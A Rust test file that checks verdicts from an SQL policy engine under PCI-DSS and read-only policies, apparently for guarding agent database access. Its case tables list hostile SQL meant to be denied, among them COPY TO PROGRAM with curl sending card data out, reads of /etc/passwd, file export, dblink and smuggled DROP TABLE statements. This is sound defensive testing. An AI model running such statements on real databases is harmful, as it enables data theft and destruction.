//! Table-driven verdicts: every line is `dialect | action | rule | SQL`
//! judged against the shipped policies (`policies/pci-dss.toml`,
//! `policies/read-only.toml`). `\n` in the SQL column is a newline.

use dbwarden_policy::{Action, Dialect, Engine, Identity, Policy, Protocol, Target};

const PCI: &str = include_str!("../../../policies/pci-dss.toml");
const RO: &str = include_str!("../../../policies/read-only.toml");

/// pci-dss.toml expectations. P = PostgreSQL, M = MySQL.
const PCI_CASES: &str = r#"
P | allow   | default | SELECT 1
P | allow   | default | SELECT * FROM orders
P | allow   | default | SELECT * FROM orders WHERE id = 5
P | allow   | default | select id, name from customers where id = $1
P | allow   | default | SELECT * FROM company
P | allow   | default | SELECT * FROM cards LIMIT 10
P | allow   | default | SELECT count(*) FROM cards LIMIT 1
P | allow   | default | SELECT "pan" FROM "payments" LIMIT 1
P | allow   | default | SELECT * FROM cards FETCH FIRST 5 ROWS ONLY
P | approve | approve-unbounded-cardholder-select | SELECT * FROM cards
P | approve | approve-unbounded-cardholder-select | SELECT pan FROM billing.card_data WHERE id = 1
P | approve | approve-unbounded-cardholder-select | SELECT count(*) FROM payments
P | approve | approve-unbounded-cardholder-select | SELECT * FROM public."Cards"
P | approve | approve-unbounded-cardholder-select | SELECT * FROM user_pans
P | approve | approve-unbounded-cardholder-select | SELECT * FROM billing.pan
P | approve | approve-unbounded-cardholder-select | sElEcT * FrOm CARDS
P | approve | approve-unbounded-cardholder-select | SELECT * FROM card_data
P | approve | approve-unbounded-cardholder-select | SELECT * FROM cards LIMIT 5000
P | approve | approve-unbounded-cardholder-select | SELECT * FROM cards LIMIT ALL
P | approve | approve-unbounded-cardholder-select | SELECT * FROM cards LIMIT $1
P | approve | approve-unbounded-cardholder-select | SELECT * FROM cards LIMIT (SELECT 10)
P | allow   | default | WITH x AS (SELECT * FROM cards LIMIT 5) SELECT * FROM x
P | approve | approve-unbounded-cardholder-select | SELECT o.id FROM orders o JOIN payments p ON p.order_id = o.id
P | approve | approve-unbounded-cardholder-select | SELECT * FROM orders WHERE id IN (SELECT order_id FROM payments)
P | approve | approve-unbounded-cardholder-select | SELECT * FROM "cards"
P | approve | approve-unbounded-cardholder-select | SELECT * FROM orders UNION SELECT * FROM cards
P | approve | approve-unbounded-cardholder-select | SELECT 1 UNION TABLE billing.cards
P | approve | approve-unbounded-cardholder-select | (TABLE cards)
P | deny    | on_parse_error | TABLE cards
P | approve | approve-unbounded-cardholder-select | DECLARE c CURSOR FOR SELECT * FROM cards
P | allow   | default | DECLARE c CURSOR FOR SELECT * FROM cards LIMIT 10
P | allow   | default | FETCH 10 FROM c
P | approve | approve-cardholder-aggregation | SELECT string_agg(pan, ',') FROM cards LIMIT 1
P | approve | approve-cardholder-aggregation | SELECT json_agg(c) FROM cards c LIMIT 1
P | approve | approve-cardholder-copy | CREATE TABLE x AS SELECT * FROM cards
P | approve | approve-cardholder-copy | INSERT INTO archive SELECT * FROM cards WHERE id < 10
P | approve | approve-cardholder-copy | CREATE VIEW v AS SELECT pan FROM cards
P | approve | approve-cardholder-copy | SELECT * INTO newt FROM cards LIMIT 5
P | approve | approve-unbounded-cardholder-select | SELECT * INTO newt FROM cards
P | approve | approve-schema-change | SELECT * INTO newt FROM orders
P | approve | approve-schema-change | CREATE TABLE x AS SELECT * FROM orders
P | allow   | default | INSERT INTO orders (id, total) VALUES (1, 2.5)
P | allow   | default | INSERT INTO cards (id, pan) VALUES (1, '4111111111111111')
P | allow   | default | UPDATE orders SET total = 0 WHERE id = 1
P | allow   | default | DELETE FROM orders WHERE id = 7
P | allow   | default | UPDATE cards SET status = 'x' WHERE id = 3
P | deny    | no-where-less-writes | UPDATE orders SET total = 0
P | deny    | no-where-less-writes | DELETE FROM orders
P | deny    | no-where-less-writes | delete from ORDERS
P | deny    | no-where-less-writes | WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d
P | deny    | no-where-less-writes | WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT 1
P | deny    | no-where-less-writes | EXPLAIN ANALYZE DELETE FROM t
P | deny    | no-where-less-writes | EXPLAIN DELETE FROM t
P | deny    | no-where-less-writes | PREPARE x AS DELETE FROM t
P | deny    | no-where-less-writes | PREPARE y (int) AS UPDATE t SET a = $1
P | deny    | no-where-less-writes | DELETE FROM t USING u
P | allow   | default | WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d
P | allow   | default | EXPLAIN ANALYZE DELETE FROM t WHERE id = 1
P | allow   | default | EXPLAIN SELECT * FROM orders
P | allow   | default | PREPARE x AS SELECT * FROM orders WHERE id = $1
P | allow   | default | EXECUTE x(1)
P | allow   | default | DEALLOCATE x
P | deny    | no-truncate | TRUNCATE t
P | deny    | no-truncate | truncate table cards
P | deny    | no-truncate | TrUnCaTe T
P | deny    | no-truncate | -- hi\nTRUNCATE t
P | deny    | no-drop | DROP TABLE t
P | deny    | no-drop | DROP TABLE IF EXISTS "Orders" CASCADE
P | approve | approve-schema-change | DROP INDEX i
P | deny    | no-drop | DROP SCHEMA s CASCADE
P | deny    | no-drop | DROP VIEW v
P | deny    | no-drop | DROP FUNCTION f()
P | deny    | no-drop | DROP DATABASE d
P | deny    | no-drop | /* nested /* comment */ still */ DROP TABLE t
P | deny    | no-alter-drop | ALTER TABLE t DROP COLUMN c
P | deny    | no-alter-drop | ALTER TABLE t DROP CONSTRAINT k
P | deny    | no-alter-drop | ALTER TABLE t ADD COLUMN x int, DROP COLUMN y
P | approve | approve-schema-change | ALTER TABLE t ADD COLUMN c int
P | approve | approve-schema-change | ALTER TABLE t RENAME COLUMN a TO b
P | approve | approve-schema-change | CREATE TABLE t (id int primary key, name text)
P | approve | approve-schema-change | CREATE INDEX i ON orders (id)
P | deny    | no-grant-revoke | GRANT SELECT ON t TO u
P | deny    | no-grant-revoke | REVOKE ALL ON t FROM u
P | deny    | no-grant-revoke | GRANT admin TO bob
P | deny    | no-grant-revoke | GRANT pg_execute_server_program TO agent
P | deny    | no-role-management | CREATE ROLE x
P | deny    | no-role-management | CREATE USER x
P | approve | approve-credential-rotation | CREATE USER x WITH PASSWORD 'secret'
P | deny    | no-role-management | ALTER ROLE x SUPERUSER
P | deny    | no-role-management | SET ROLE admin
P | deny    | no-role-management | SET SESSION AUTHORIZATION admin
P | deny    | no-copy-program | COPY (SELECT * FROM cards) TO PROGRAM 'curl -d @- http://x'
P | deny    | no-copy-program | COPY t FROM PROGRAM 'id'
P | deny    | no-server-files | COPY cards TO '/tmp/x'
P | deny    | no-server-files | COPY t FROM '/etc/passwd'
P | approve | approve-copy-out | COPY cards TO STDOUT
P | approve | approve-copy-out | COPY (SELECT * FROM orders) TO STDOUT WITH CSV
P | approve | approve-copy-out | COPY orders (id) TO STDOUT
P | allow   | default | COPY orders FROM STDIN
P | deny    | no-file-functions | SELECT pg_read_file('/etc/passwd')
P | deny    | no-file-functions | SELECT * FROM pg_read_file('/etc/passwd')
P | deny    | no-file-functions | SELECT pg_catalog.pg_read_binary_file('x')
P | deny    | no-file-functions | SELECT pg_ls_dir('.')
P | deny    | no-file-functions | SELECT * FROM pg_ls_dir('.') AS f
P | deny    | no-file-functions | SELECT pg_ls_waldir()
P | deny    | no-file-functions | SELECT pg_stat_file('x')
P | deny    | no-file-functions | SELECT lo_import('/etc/passwd')
P | deny    | no-file-functions | SELECT lo_export(1, '/tmp/x')
P | deny    | no-file-functions | SELECT lo_from_bytea(0, 'x')
P | deny    | no-file-functions | SELECT 1 WHERE EXISTS (SELECT pg_read_file('x'))
P | deny    | no-file-functions | SELECT * FROM t JOIN LATERAL pg_ls_dir('.') d ON true
P | deny    | no-file-functions | SELECT upper(PG_READ_FILE('x'))
P | deny    | no-file-functions | SELECT "pg_read_file"('x')
P | deny    | no-file-functions | SELECT coalesce(NULL, (SELECT lo_export(1, '/x')))
P | deny    | no-file-functions | SELECT id FROM orders ORDER BY length(pg_read_file('x'))
P | deny    | no-file-functions | SELECT CASE WHEN true THEN pg_read_file('x') END
P | deny    | no-file-functions | INSERT INTO t VALUES (pg_read_file('x'))
P | deny    | no-file-functions | UPDATE t SET a = pg_read_file('x') WHERE id = 1
P | deny    | no-remote-connections | SELECT * FROM dblink('host=x', 'select 1') AS t(a int)
P | deny    | no-remote-connections | SELECT dblink_exec('x', 'DROP TABLE t')
P | deny    | no-remote-connections | SELECT dblink_connect('x')
P | deny    | no-set-config | SELECT set_config('search_path', 'evil', false)
P | deny    | no-role-management | SELECT set_config('role', 'admin', false)
P | deny    | no-server-admin-functions | SELECT pg_terminate_backend(123)
P | deny    | no-server-admin-functions | SELECT pg_reload_conf()
P | deny    | no-opaque-code | DO $$ BEGIN PERFORM 1; END $$
P | deny    | no-opaque-code | DO $body$ BEGIN EXECUTE 'DROP TABLE t'; END $body$
P | deny    | no-opaque-code | do language plpgsql $$ begin null; end $$
P | deny    | no-opaque-code | CALL p(1)
P | deny    | no-untrusted-languages | CREATE FUNCTION f() RETURNS int LANGUAGE plpythonu AS $$ return 1 $$
P | deny    | no-untrusted-languages | CREATE FUNCTION f() RETURNS int LANGUAGE plperlu AS $$ 1 $$
P | deny    | no-untrusted-languages | CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE C AS 'lib', 'f'
P | approve | approve-schema-change | CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$
P | deny    | no-alter-system | ALTER SYSTEM SET log_statement = 'none'
P | deny    | no-create-extension | CREATE EXTENSION dblink
P | deny    | no-create-extension | CREATE EXTENSION IF NOT EXISTS adminpack
P | deny    | on_parse_error | SELEC 1
P | deny    | on_parse_error | DROP
P | deny    | on_parse_error | this is not sql
P | deny    | on_parse_error | SELECT 'unterminated
P | deny    | on_parse_error | SELECT 1 FROM
P | deny    | on_parse_error | SELECT 1 /* unterminated
P | allow   | default | /* DROP */ SELECT 1
P | allow   | default | SELECT 1; -- ;DROP TABLE t
P | allow   | default | SELECT 1 /* ; DROP TABLE t; */
P | allow   | default | SELECT 1 -- ; DROP TABLE t
P | allow   | default | SELECT $$; DROP TABLE t; $$
P | allow   | default | SELECT $a$ TRUNCATE t $a$
P | allow   | default | SELECT 'a ; DROP TABLE t'
P | allow   | default | SELECT 'it''s ; DROP TABLE t'
P | allow   | default | SELECT E'\' ; DROP TABLE t'
P | allow   | default | SELECT "DROP" FROM "TRUNCATE"
P | deny    | no-truncate | SELECT 1; TRUNCATE t
P | deny    | no-drop | SELECT * FROM cards; DROP TABLE t
P | approve | approve-unbounded-cardholder-select | SELECT 1; SELECT * FROM cards
P | allow   | default | BEGIN; UPDATE orders SET x = 1 WHERE id = 1; COMMIT
P | deny    | no-where-less-writes | BEGIN; DELETE FROM orders; COMMIT
P | deny    | no-opaque-code | SELECT 1; DO $$ BEGIN END $$; SELECT 2
P | deny    | on_parse_error | SELECT 1; SELEC 2
P | allow   | default | SET search_path = public
P | allow   | default | SET application_name = 'agent'
P | allow   | default | SET TIME ZONE 'UTC'
P | allow   | default | RESET ALL
P | allow   | default | SHOW search_path
P | allow   | default | BEGIN
P | allow   | default | COMMIT
P | allow   | default | ROLLBACK
P | allow   | default | SAVEPOINT a
P | allow   | default | RELEASE SAVEPOINT a
P | allow   | default | START TRANSACTION ISOLATION LEVEL SERIALIZABLE
P | allow   | default | LISTEN chan
P | allow   | default | VACUUM orders
P | allow   | default | MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total
P | approve | approve-cardholder-copy | MERGE INTO archive a USING cards c ON a.id = c.id WHEN NOT MATCHED THEN INSERT VALUES (c.id)
M | allow   | default | SELECT 1
M | allow   | default | SELECT `id` FROM `orders` WHERE `id` = 1
M | allow   | default | SELECT * FROM cards LIMIT 10
M | allow   | default | SELECT * FROM cards LIMIT 100, 10
M | approve | approve-unbounded-cardholder-select | SELECT * FROM `cards`
M | approve | approve-unbounded-cardholder-select | SELECT `pan` FROM `shop`.`Cards` WHERE id = 1
M | approve | approve-unbounded-cardholder-select | SELECT * FROM cards LIMIT 0, 100000
M | approve | approve-cardholder-aggregation | SELECT group_concat(pan) FROM cards LIMIT 1
M | deny    | no-server-files | LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t
M | deny    | no-server-files | LOAD DATA INFILE '/etc/passwd' INTO TABLE t
M | deny    | no-server-files | SELECT * FROM cards INTO OUTFILE '/tmp/x'
M | deny    | no-server-files | SELECT pan INTO DUMPFILE '/tmp/x' FROM cards LIMIT 1
M | deny    | no-file-functions | SELECT LOAD_FILE('/etc/passwd')
M | deny    | no-where-less-writes | DELETE FROM `orders`
M | deny    | no-where-less-writes | UPDATE orders SET a = 1 LIMIT 5
M | deny    | no-where-less-writes | PREPARE s FROM 'DELETE FROM t'
M | allow   | default | PREPARE s FROM 'SELECT * FROM orders WHERE id = ?'
M | deny    | no-opaque-code | PREPARE s FROM @q
M | deny    | no-opaque-code | CALL p()
M | deny    | no-drop | DROP TABLE `t`
M | deny    | no-truncate | TRUNCATE TABLE t
M | deny    | no-grant-revoke | GRANT ALL ON *.* TO 'u'@'%'
M | allow   | default | SELECT "DROP TABLE t" FROM orders
M | allow   | default | SELECT 'a\'; DROP TABLE t; --' FROM orders
M | allow   | default | SELECT 1 # ; DROP TABLE t
M | deny    | no-drop | SELECT 1 /*!50000 ; DROP TABLE t */
M | deny    | on_parse_error | SELECT 1 /*M!100100 ; DROP TABLE t */
M | allow   | default | SET @a = 1
M | allow   | default | SET NAMES utf8mb4
M | allow   | default | USE shop
M | allow   | default | SHOW TABLES
M | allow   | default | REPLACE INTO orders VALUES (1, 2)
M | allow   | default | DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id WHERE t2.x = 1
M | deny    | on_parse_error | SELEC 1
"#;

/// read-only.toml expectations.
const RO_CASES: &str = r#"
P | allow   | ro-allow-reads | SELECT 1
P | allow   | ro-allow-reads | SELECT * FROM orders
P | allow   | ro-allow-reads | SELECT * FROM cards LIMIT 10
P | allow   | ro-allow-reads | EXPLAIN SELECT * FROM orders
P | allow   | ro-allow-reads | SHOW search_path
P | allow   | ro-allow-reads | BEGIN
P | allow   | ro-allow-reads | SET search_path = public
P | allow   | ro-allow-reads | PREPARE x AS SELECT * FROM orders WHERE id = $1
P | allow   | ro-allow-reads | EXECUTE x(1)
P | allow   | ro-allow-reads | WITH a AS (SELECT 1) SELECT * FROM a
P | approve | ro-approve-unbounded-cardholder-select | SELECT * FROM cards
P | approve | ro-approve-copy-out | COPY orders TO STDOUT
P | deny    | ro-no-writes | INSERT INTO orders VALUES (1)
P | deny    | ro-no-writes | UPDATE orders SET a = 1 WHERE id = 1
P | deny    | ro-no-writes | DELETE FROM orders WHERE id = 1
P | deny    | ro-no-writes | WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d
P | deny    | ro-no-writes | EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE id = 2
P | deny    | ro-no-writes | PREPARE x AS INSERT INTO t VALUES (1)
P | deny    | ro-no-writes | SELECT * INTO newt FROM orders
P | deny    | ro-no-writes | CREATE TABLE x AS SELECT 1
P | deny    | ro-no-writes | CREATE TABLE t (a int)
P | deny    | ro-no-writes | DROP TABLE t
P | deny    | ro-no-writes | TRUNCATE t
P | deny    | ro-no-writes | ALTER TABLE t ADD COLUMN a int
P | deny    | ro-no-writes | GRANT SELECT ON t TO u
P | deny    | ro-no-writes | COPY orders FROM STDIN
P | deny    | ro-no-writes | COPY orders TO '/tmp/x'
P | deny    | ro-no-writes | MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
P | deny    | ro-no-writes | VACUUM t
P | deny    | ro-no-opaque-code | DO $$ BEGIN END $$
P | deny    | ro-no-opaque-code | CALL p()
P | deny    | ro-no-role-switch | SET ROLE admin
P | deny    | ro-no-side-effect-functions | SELECT nextval('s')
P | deny    | ro-no-side-effect-functions | SELECT pg_read_file('x')
P | deny    | ro-no-side-effect-functions | SELECT set_config('a', 'b', false)
P | deny    | ro-no-opaque-code | SELECT * FROM dblink('x', 'y') AS t(a int)
P | deny    | ro-no-writes | ALTER SYSTEM SET a = 1
P | deny    | ro-no-writes | NOTIFY chan
M | deny    | default | KILL 5
P | deny    | on_parse_error | CHECKPOINT
P | deny    | on_parse_error | SELEC 1
P | deny    | ro-no-writes | SELECT 1; DELETE FROM t WHERE id = 1
M | allow   | ro-allow-reads | SELECT * FROM `orders`
M | allow   | ro-allow-reads | SHOW TABLES
M | allow   | ro-allow-reads | USE shop
M | deny    | ro-no-writes | LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t
M | deny    | ro-no-writes | SELECT * FROM orders INTO OUTFILE '/tmp/x'
M | deny    | ro-no-writes | REPLACE INTO t VALUES (1)
M | deny    | ro-no-opaque-code | PREPARE s FROM @q
"#;

fn target() -> Target {
    Target {
        addr: Some("127.0.0.1:5432".into()),
        protocol: Protocol::Postgres,
        database: Some("shop".into()),
        user: Some("agent".into()),
    }
}

fn run(policy_src: &str, origin: &str, cases: &str) -> usize {
    let engine = Engine::new(Policy::parse(policy_src, origin).unwrap());
    let id = Identity::default();
    let mut failures = Vec::new();
    let mut n = 0;
    for line in cases.lines().filter(|l| !l.trim().is_empty()) {
        let parts: Vec<&str> = line.splitn(4, '|').map(str::trim).collect();
        assert_eq!(parts.len(), 4, "bad case line: {line}");
        let dialect = match parts[0] {
            "P" => Dialect::Postgres,
            "M" => Dialect::MySql,
            d => panic!("bad dialect {d}"),
        };
        let sql = parts[3].replace("\\n", "\n");
        // Twice: the second run may come from the cache and must agree.
        for round in 0..2 {
            let v = engine.decide(&sql, dialect, &id, &target());
            let action = match v.action {
                Action::Allow => "allow",
                Action::Deny => "deny",
                Action::RequireApproval { .. } => "approve",
            };
            if action != parts[1] || v.rule != parts[2] {
                failures.push(format!(
                    "{origin}: {sql:?} (round {round}): expected {} by {}, got {action} by {} ({:?})",
                    parts[1], parts[2], v.rule, v.statements
                ));
            }
            assert!(v.message.contains(&format!("\"{}\"", v.rule)) || v.rule == "empty");
        }
        n += 1;
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
    n
}

#[test]
fn pci_dss_table() {
    let n = run(PCI, "policies/pci-dss.toml", PCI_CASES);
    assert!(n >= 150, "only {n} cases");
}

#[test]
fn read_only_table() {
    let n = run(RO, "policies/read-only.toml", RO_CASES);
    assert!(n >= 40, "only {n} cases");
}

#[test]
fn embedded_default_is_pci_dss_file() {
    let p = Policy::embedded_default();
    assert_eq!(p.hash(), Policy::parse(PCI, "x").unwrap().hash());
    assert_eq!(p.name(), "pci-dss");
}

#[test]
fn example_policy_is_valid() {
    let src = include_str!("../../../policies/example.toml");
    let p = Policy::parse(src, "policies/example.toml").unwrap();
    assert!(p.rule_names().count() > 3);
}
